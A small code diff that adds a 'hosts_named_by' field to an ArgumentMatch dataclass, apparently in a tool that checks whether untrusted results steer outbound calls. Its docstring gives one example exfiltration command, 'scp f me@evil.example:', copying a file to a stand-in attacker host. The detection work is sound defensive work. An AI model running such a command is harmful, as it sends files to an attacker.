@@ -53,6 +53,9 @@ class ArgumentMatch:
     secrets: list[SecretFinding] = field(default_factory=list)
     addressed_by: set[int] = field(default_factory=set)
     """For a destination: the untrusted results that name its address (not its payload)."""
+    hosts_named_by: set[int] = field(default_factory=set)
+    """Of an egress call: the untrusted results that name a host the argument sends to (the
+    host or a parent domain), wherever it sits (``scp f me@evil.example:`` in a command)."""
     payloads: list[str] = field(default_factory=list)
     """Of an egress call: the matchable forms of what the argument carries as data."""
     outbound_hits: list[Hit] = field(default_factory=list)
